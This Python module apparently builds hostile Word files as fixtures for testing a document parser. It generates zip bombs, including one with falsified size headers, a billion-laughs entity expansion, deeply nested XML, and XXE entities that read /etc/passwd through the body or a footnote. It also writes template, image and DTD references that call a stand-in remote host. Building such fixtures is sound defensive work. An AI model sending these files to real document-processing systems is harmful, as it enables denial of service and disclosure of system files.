"""Builders of hostile Word files: archives that explode, XML that reads other files or calls home."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path

__all__ = [
    "REMOTE",
    "billion_laughs_docx",
    "cut_docx",
    "deep_xml_docx",
    "lying_sizes_docx",
    "nested_zip_docx",
    "remote_docx",
    "remote_type_docx",
    "xxe_docx",
    "xxe_footnote_docx",
    "zip_bomb_docx",
]

REMOTE = "http://docrelay.invalid/"
"""Where remote references lead when no listener is given; the name never resolves (RFC 2606)."""

MIB = 2**20
BOMB_MIB = 512
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
NOTES_TYPE = MAIN_TYPE.replace("document.main", "footnotes")
TYPES = (
    f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/octet-stream"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/>'
    f'<Override PartName="/word/footnotes.xml" ContentType="{NOTES_TYPE}"/></Types>'
)
ROOT_LINKS = (
    f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"


def zip_bomb_docx(folder: Path) -> Path:
    """A well-formed Word file of a few megabytes that unpacks to half a gibibyte of paragraphs."""
    path = folder / "bomb.docx"
    block = PARAGRAPH.format("lol").encode() * 32768
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        _frame(archive)
        with archive.open("word/document.xml", "w") as member:
            member.write(f"<w:document {W}><w:body>".encode())
            for _ in range(BOMB_MIB * MIB // len(block)):
                member.write(block)
            member.write(b"</w:body></w:document>")
    return path


def lying_sizes_docx(folder: Path) -> Path:
    """The same bomb, but both headers say that the member has a hundred bytes."""
    path = zip_bomb_docx(folder)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        member = archive.getinfo("word/document.xml")
    size, lie = struct.pack("<I", member.file_size), struct.pack("<I", 100)
    for offset in _occurrences(data, size):
        data[offset : offset + 4] = lie
    path.write_bytes(data)
    return path


def nested_zip_docx(folder: Path) -> Path:
    """A plain Word file that carries zips within zips as an embedded object, which need not be opened."""
    inner = folder / "inner.zip"
    data = bytes(32 * MIB)
    for _ in range(6):
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(4):
                archive.writestr(f"{number}.zip", data)
        data = inner.read_bytes()
    inner.unlink()
    return _docx(folder / "nested.docx", PARAGRAPH.format("plain"), extra={"word/embeddings/object1.bin": data})


def deep_xml_docx(folder: Path, depth: int = 200_000) -> Path:
    """Elements nested so deep that a recursive reader runs out of stack."""
    return _docx(folder / "deep.docx", "<w:p>" * depth + "</w:p>" * depth)


def xxe_docx(folder: Path, target: str = "file:///etc/passwd") -> Path:
    """A paragraph that is an external entity."""
    return _docx(folder / "xxe.docx", PARAGRAPH.format("Before &secret; after"), _entity(target))


def xxe_footnote_docx(folder: Path, target: str = "file:///etc/passwd") -> Path:
    """A footnote that is an external entity: the main part is innocent."""
    note = f'<w:footnote w:id="1">{PARAGRAPH.format("Before &secret; after")}</w:footnote>'
    parts = {
        "word/footnotes.xml": f"{_entity(target)}<w:footnotes {W}>{note}</w:footnotes>".encode(),
        "word/_rels/document.xml.rels": _links(("footnotes", "footnotes.xml", "Internal")),
    }
    body = PARAGRAPH.format('Plain</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r><w:r><w:t>')
    return _docx(folder / "note.docx", body, extra=parts)


def billion_laughs_docx(folder: Path) -> Path:
    """Ten levels of entities, each ten times the one before."""
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
    return _docx(folder / "laughs.docx", PARAGRAPH.format("&l10;"), f"<!DOCTYPE w:document [{entities}]>")


def remote_docx(folder: Path, url: str = REMOTE) -> Path:
    """An attached template and a picture that lie on another server."""
    links = _links(("attachedTemplate", f"{url}t.dotm", "External"), ("image", f"{url}i.png", "External"))
    drawing = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
        f'xmlns:r="{OFFICE}" r:id="rId2"/></v:shape></w:pict></w:r></w:p>'
    )
    body = PARAGRAPH.format("Remote Shearwater") + drawing
    return _docx(folder / "remote.docx", body, extra={"word/_rels/document.xml.rels": links})


def remote_type_docx(folder: Path, url: str = REMOTE) -> Path:
    """A document type that would have to be fetched from another server."""
    doctype = f'<!DOCTYPE w:document SYSTEM "{url}word.dtd">'
    return _docx(folder / "type.docx", PARAGRAPH.format("Remote Shearwater"), doctype)


def cut_docx(folder: Path) -> Path:
    """A Word file without its last third: no central directory."""
    path = _docx(folder / "cut.docx", PARAGRAPH.format("text ") * 50)
    path.write_bytes(path.read_bytes()[: path.stat().st_size * 2 // 3])
    return path


def _entity(target: str) -> str:
    return f'<!DOCTYPE w:document [<!ENTITY secret SYSTEM "{target}">]>'


def _links(*links: tuple[str, str, str]) -> bytes:
    """Relationships rId1, rId2, … of a kind, a target and a mode each."""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for number, (kind, target, mode) in enumerate(links, 1)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>'.encode()


def _docx(path: Path, body: str, doctype: str = "", extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _frame(archive)
        xml = f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document {W}><w:body>{body}</w:body></w:document>'
        archive.writestr("word/document.xml", xml)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


def _frame(archive: zipfile.ZipFile) -> None:
    archive.writestr("[Content_Types].xml", TYPES)
    archive.writestr("_rels/.rels", ROOT_LINKS)


def _occurrences(data: bytes | bytearray, wanted: bytes) -> list[int]:
    offsets, offset = [], data.find(wanted)
    while offset >= 0:
        offsets.append(offset)
        offset = data.find(wanted, offset + 1)
    return offsets
